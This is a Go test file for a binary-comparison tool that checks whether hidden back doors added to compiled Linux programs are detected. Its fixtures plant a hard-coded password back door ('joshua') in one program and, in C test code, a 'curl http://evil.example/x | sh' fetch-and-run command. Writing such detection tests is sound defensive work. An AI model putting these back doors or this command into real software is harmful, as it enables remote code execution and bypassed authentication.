package executable

import (
	"bytes"
	"debug/elf"
	"encoding/binary"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/stagescope/stagescope/diff"
)

// goBuilt builds one file of Go for an architecture of Linux.
func goBuilt(t testing.TB, arch, source string, flags ...string) []byte {
	t.Helper()
	dir := t.TempDir()
	for name, s := range map[string]string{"go.mod": "module m\n\ngo 1.24\n", "main.go": source} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(s), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	cmd := exec.Command("go", append([]string{"build", "-o", "m", "-trimpath"}, flags...)...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0", "GOOS=linux", "GOARCH="+arch)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v: %s", err, out)
	}
	p, err := os.ReadFile(filepath.Join(dir, "m"))
	if err != nil {
		t.Fatal(err)
	}
	return p
}

// manyGo is a program of many functions that refer to strings, variables, tables
// and one another. Each of changes is text of it and what takes its place.
func manyGo(t testing.TB, n int, changes ...string) string {
	t.Helper()
	var b strings.Builder
	b.WriteString("package main\n\nimport \"os\"\n\nvar weights = [...]int{3, 5, 7, 11, 13}\n\nvar total, other int\n\n")
	for i := range n {
		fmt.Fprintf(&b, "var count%d int\n\n//go:noinline\nfunc work%d(a int) int {\n\tcount%d += a\n\tif a == %d {\n\t\tprintln(\"work of number %d is done\", weights[a%%5], name(a))\n\t}\n\ttotal += a\n", i, i, i, i+7, i)
		if i > 0 {
			fmt.Fprintf(&b, "\treturn work%d(a-1)\n}\n\n", i/2)
		} else {
			b.WriteString("\treturn a\n}\n\n")
		}
	}
	b.WriteString("//go:noinline\nfunc name(a int) string {\n\tswitch a {\n")
	for i := range 12 {
		fmt.Fprintf(&b, "\tcase %d:\n\t\treturn \"name %d\"\n", i, i*i)
	}
	b.WriteString("\t}\n\treturn \"\"\n}\n\n//go:noinline\nfunc check(s string) bool {\n\treturn s == \"secret\"\n}\n\nfunc main() {\n\tif check(os.Args[0]) {\n\t\tprintln(\"welcome\")\n\t}\n")
	for i := range n {
		fmt.Fprintf(&b, "\twork%d(%d)\n", i, i)
	}
	b.WriteString("\tprintln(other)\n}\n")
	s := b.String()
	for i := 0; i < len(changes); i += 2 {
		if !strings.Contains(s, changes[i]) {
			t.Fatalf("there is no %q to be changed", changes[i])
		}
		s = strings.Replace(s, changes[i], changes[i+1], 1)
	}
	return s
}

// doorGo puts a back door into it.
var doorGo = []string{
	"\treturn s == \"secret\"\n", "\treturn door(s) || s == \"secret\"\n",
	"func main() {", "//go:noinline\nfunc door(s string) bool {\n\tif s == \"joshua\" {\n\t\tother++\n\t\tprintln(\"http://evil.example/beacon\")\n\t\treturn true\n\t}\n\treturn false\n}\n\nfunc main() {"}

// codeSuspicions are those of code in a section.
func codeSuspicions(n *diff.Node) (out []string) {
	for _, s := range n.Suspicions {
		if s.Kind == diff.SuspectNewCode || s.Kind == diff.SuspectChangedCode {
			out = append(out, s.What)
		}
	}
	return out
}

// referringFunctions is how many functions are said to refer to what moved.
func referringFunctions(n *diff.Node) (k int) {
	for _, r := range n.Reasons {
		if i := strings.Index(r.Field, "nothing else differs in "); i >= 0 {
			fmt.Sscanf(r.Field[i:], "nothing else differs in %d functions", &k)
		}
	}
	return k
}

// TestRelinkedBackDoor hides a back door among references that moved: it is named
// first, with its call, and nothing else is.
func TestRelinkedBackDoor(t *testing.T) {
	for _, flags := range [][]string{nil, {"-ldflags=-s -w"}} {
		t.Run(strings.Join(flags, " "), func(t *testing.T) {
			n := compareFiles(t, goBuilt(t, "amd64", manyGo(t, 1500), flags...), goBuilt(t, "amd64", manyGo(t, 1500, doorGo...), flags...))
			code := child(t, n, ".text")
			ss := codeSuspicions(code)
			if len(ss) != 2 || !strings.Contains(ss[0], "side B has a function that A has not: main.door") || !strings.Contains(ss[1], "in main.check") || !strings.Contains(ss[1], "only B calls main.door") {
				t.Errorf("the suspicions are\n%s", strings.Join(ss, "\n"))
			}
			if !said(child(t, n, ".rodata"), diff.SuspectString, "evil.example") {
				t.Error("its string is not said")
			}
			if k := referringFunctions(code); k < 900 {
				t.Errorf("%d functions only refer to what moved", k)
			}
			if code.Residue != diff.ResidueKnown {
				t.Error("the code is explained")
			}
			accounted(t, code)
		})
	}
}

// accounted checks that the ranges of a node cover every byte that differs, and
// that between them both sides are equal.
func accounted(t *testing.T, n *diff.Node) {
	t.Helper()
	a, b := content(t, n)
	in := func(rs []diff.Range, size int) []bool {
		out := make([]bool, size)
		for _, r := range rs {
			for i := r.Off; i < r.Off+r.Len; i++ {
				out[i] = true
			}
		}
		return out
	}
	ca, cb := in(n.RangesA, len(a)), in(n.RangesB, len(b))
	i, j := 0, 0
	for i < len(a) || j < len(b) {
		switch {
		case i < len(a) && ca[i]:
			i++
		case j < len(b) && cb[j]:
			j++
		case i < len(a) && j < len(b) && a[i] == b[j]:
			i, j = i+1, j+1
		default:
			t.Fatalf("byte %d of A and byte %d of B differ, and no range holds them", i, j)
		}
	}
}

// TestRelinkedChanges plants one small change each: what refers to another thing
// than before is named, and so is data that changed.
func TestRelinkedChanges(t *testing.T) {
	const n = 400
	a := goBuilt(t, "amd64", manyGo(t, n))
	stripped := goBuilt(t, "amd64", manyGo(t, n), "-ldflags=-s -w")
	only := func(t *testing.T, n *diff.Node, function string) {
		t.Helper()
		if ss := codeSuspicions(child(t, n, ".text")); len(ss) != 1 || !strings.Contains(ss[0], "in "+function) {
			t.Errorf("the suspicions are\n%s", strings.Join(ss, "\n"))
		}
	}
	for name, c := range map[string]struct{ from, to, function string }{
		"constant":         {"if a == 207 {", "if a == 208 {", "main.work200"},
		"text":             {`"work of number 100 is done"`, `"work of number 100 was it"`, "main.work100"},
		"another variable": {"count300 += a", "count301 += a", "main.work300"},
		"another callee":   {"return work80(a-1)", "return work81(a-1)", "main.work160"},
	} {
		t.Run(name, func(t *testing.T) {
			only(t, compareFiles(t, a, goBuilt(t, "amd64", manyGo(t, n, c.from, c.to))), c.function)
			// Without names two variables that became one are one to both who use it.
			ss := codeSuspicions(child(t, compareFiles(t, stripped, goBuilt(t, "amd64", manyGo(t, n, c.from, c.to), "-ldflags=-s -w")), ".text"))
			if len(ss) == 0 || len(ss) > 2 || !strings.Contains(strings.Join(ss, "\n"), "in "+c.function+" (") {
				t.Errorf("without symbols, the suspicions are\n%s", strings.Join(ss, "\n"))
			}
		})
	}
	used := func(t *testing.T, n *diff.Node, words ...string) {
		t.Helper()
		for _, c := range n.Children {
			for _, r := range c.Reasons {
				ok := r.Field == FieldUsed && c.Residue == diff.ResidueKnown
				for _, w := range words {
					ok = ok && strings.Contains(r.B, w)
				}
				if ok {
					return
				}
			}
		}
		t.Errorf("what changed and its use are not said:\n%s", sketch(n, ""))
	}
	t.Run("table", func(t *testing.T) {
		used(t, compareFiles(t, a, goBuilt(t, "amd64", manyGo(t, n, "{3, 5, 7,", "{3, 6, 7,"))), "main.weights", "used by main.work")
	})
	t.Run("text in its place", func(t *testing.T) {
		c := []string{`"work of number 100 is done"`, `"work of number 100 is gone"`}
		used(t, compareFiles(t, a, goBuilt(t, "amd64", manyGo(t, n, c...))), "used by main.work100")
		used(t, compareFiles(t, stripped, goBuilt(t, "amd64", manyGo(t, n, c...), "-ldflags=-s -w")), "used by main.work100")
	})
	t.Run("cases", func(t *testing.T) {
		n := compareFiles(t, a, goBuilt(t, "amd64", manyGo(t, n, "\tcase 3:\n", "\tcase 5000:\n", "\tcase 4:\n", "\tcase 3:\n", "\tcase 5000:\n", "\tcase 4:\n")))
		if n.Suspicious == 0 && n.Residue == diff.ResidueNone {
			t.Errorf("nothing is said of two cases that took each other's place:\n%s", sketch(n, ""))
		}
	})
}

// TestArchitectures changes one function of a program for each architecture whose
// instructions are known.
func TestArchitectures(t *testing.T) {
	for arch, want := range map[string][2]string{
		"amd64":   {"0x29", "0x2a"},
		"386":     {"0x29", "0x2a"},
		"arm64":   {"#0x29", "#0x2a"},
		"riscv64": {"41", "42"},
		"ppc64le": {"41", "42"},
		"s390x":   {"41", "42"},
	} {
		t.Run(arch, func(t *testing.T) {
			t.Parallel()
			source := func(v int) string {
				return fmt.Sprintf("package main\n\nfunc main() { println(answer(len(\"four\"))) }\n\n//go:noinline\nfunc answer(a int) int { return a ^ %d }\n", v)
			}
			n := compareFiles(t, goBuilt(t, arch, source(41)), goBuilt(t, arch, source(42)))
			code := child(t, n, ".text")
			ss := codeSuspicions(code)
			if len(ss) != 1 || !strings.Contains(ss[0], "in main.answer (0x") || !strings.Contains(ss[0], "file offset") {
				t.Fatalf("the suspicions are\n%s", strings.Join(ss, "\n"))
			}
			before, after, _ := strings.Cut(ss[0], "→")
			if !strings.Contains(before, want[0]) || !strings.Contains(after, want[1]) {
				t.Errorf("the instruction is not shown before and after: %s", ss[0])
			}
		})
		t.Run(arch+" relinked", func(t *testing.T) {
			t.Parallel()
			n := compareFiles(t, goBuilt(t, arch, manyGo(t, 60)), goBuilt(t, arch, manyGo(t, 60, doorGo...)))
			ss := codeSuspicions(child(t, n, ".text"))
			if len(ss) == 0 || !strings.Contains(ss[0], "main.door") || !strings.Contains(strings.Join(ss, "\n"), "in main.check") {
				t.Errorf("the suspicions are\n%s", strings.Join(ss, "\n"))
			}
			if len(ss) > 6 {
				t.Errorf("%d suspicions:\n%s", len(ss), strings.Join(ss, "\n"))
			}
		})
	}
}

// switchesC is a program with tables of jumps, of which one has a function more.
const switchesC = `#include <stdio.h>
#include <stdlib.h>
static int hits, misses;
#ifdef DOOR
int __attribute__((noinline)) door(int a) { if (a == 4242) return system("curl http://evil.example/x | sh"); return 0; }
#endif
#define F(n) int __attribute__((noinline)) f##n(int a) { hits += a; switch (a) { case 0: puts("zero " #n); return n; case 1: return hits; case 2: puts("two " #n); return 2; case 3: abort(); case 4: return a * n; case 5: return misses--; case 6: return rand(); default: return f0##n(a); } }
#define G(n) int __attribute__((noinline)) f0##n(int a) { misses += a; printf("%d is no number of " #n "\\n", a); return misses; }
G(1) G(2) G(3) G(4) G(5) G(6) G(7) G(8) F(1) F(2) F(3) F(4)
#ifdef DOOR
#define MORE door(c) +
#else
#define MORE
#endif
F(5) F(6) F(7) F(8)
int main(int c, char **v) { return MORE f1(c) + f2(c) + f3(c) + f4(c) + f5(c) + f6(c) + f7(c) + f8(c); }
`

// TestStripped compares programs of C without symbols: functions are told apart
// by what unwinds the stack, tables of jumps follow from the code, and tables that
// linkers compute follow from what they are computed from.
func TestStripped(t *testing.T) {
	for _, flags := range [][]string{{"-O2", "-s"}, {"-O2", "-s", "-no-pie"}, {"-O2", "-s", "-shared", "-fPIC"}} {
		t.Run(strings.Join(flags, " "), func(t *testing.T) {
			n := compareFiles(t, built(t, switchesC, flags...), built(t, switchesC, append(flags, "-DDOOR")...))
			ss := codeSuspicions(child(t, n, ".text"))
			name := "func@0x"
			if slices.Contains(flags, "-shared") {
				name = "door" // it is exported
			}
			if len(ss) != 2 || !strings.Contains(ss[0], "side B has a function that A has not: "+name) || !strings.Contains(ss[1], "only B calls "+strings.TrimPrefix(name, "func@")) && !strings.Contains(ss[1], "→ call 0x") {
				t.Errorf("the suspicions are\n%s", strings.Join(ss, "\n"))
			}
			for _, name := range []string{".gnu.hash", ".eh_frame_hdr"} {
				for _, c := range n.Children {
					if c.Name == name && c.Residue != diff.ResidueNone {
						t.Errorf("%s only follows, and its residue is %s", name, c.Residue)
					}
				}
			}
			accounted(t, child(t, n, ".text"))
			frames := child(t, n, ".eh_frame")
			accounted(t, frames)
			var open int64
			for _, r := range frames.UnexplainedB {
				open += r.Len
			}
			if open == 0 || open > 160 {
				t.Errorf("%d bytes of what unwinds the stack are not explained", open)
			}
			open = 0
			rodata := child(t, n, ".rodata")
			for _, r := range rodata.UnexplainedB {
				open += r.Len
			}
			if open > 128 {
				t.Errorf("%d bytes of the constants are not explained", open)
			}
			accounted(t, rodata)
		})
	}
}

// TestTableThatDoesNotFollow: a table that is not what it is computed from stays
// unexplained.
func TestTableThatDoesNotFollow(t *testing.T) {
	a := built(t, switchesC, "-O2", "-shared", "-fPIC")
	for _, name := range []string{".gnu.hash", ".eh_frame_hdr"} {
		f, err := elf.NewFile(bytes.NewReader(a))
		if err != nil {
			t.Fatal(err)
		}
		b := bytes.Clone(a)
		s := f.Section(name)
		b[s.Offset+s.Size-3] ^= 4
		if c := child(t, compareFiles(t, a, b), name); c.Residue != diff.ResidueKnown {
			t.Errorf("%s differs by itself, and its residue is %s", name, c.Residue)
		}
	}
}

// TestDecodedAtOnce decodes for each architecture in several goroutines, as the
// comparison of several files does; the race detector watches.
func TestDecodedAtOnce(t *testing.T) {
	for word, set := range map[string]isa{
		"\x00\x04\x00\x91": arm64{},                           // add x0, x0, #0x1
		"\x13\x85\x15\x00": riscv{},                           // addi a0, a1, 1
		"\x14\x1a\x64\x7c": ppc64{order: binary.LittleEndian}, // add r3, r4, r3
		"\x48\x83\xc0\x01": x86{mode: 64},                     // add rax, 0x1
	} {
		t.Run(fmt.Sprintf("%T", set), func(t *testing.T) {
			var wg sync.WaitGroup
			for range 4 {
				wg.Go(func() {
					if text := set.text([]byte(word), 0x1000, func(uint64) string { return "" }); !strings.HasPrefix(text, "add") {
						t.Errorf("the text is %q", text)
					}
				})
			}
			wg.Wait()
		})
	}
}
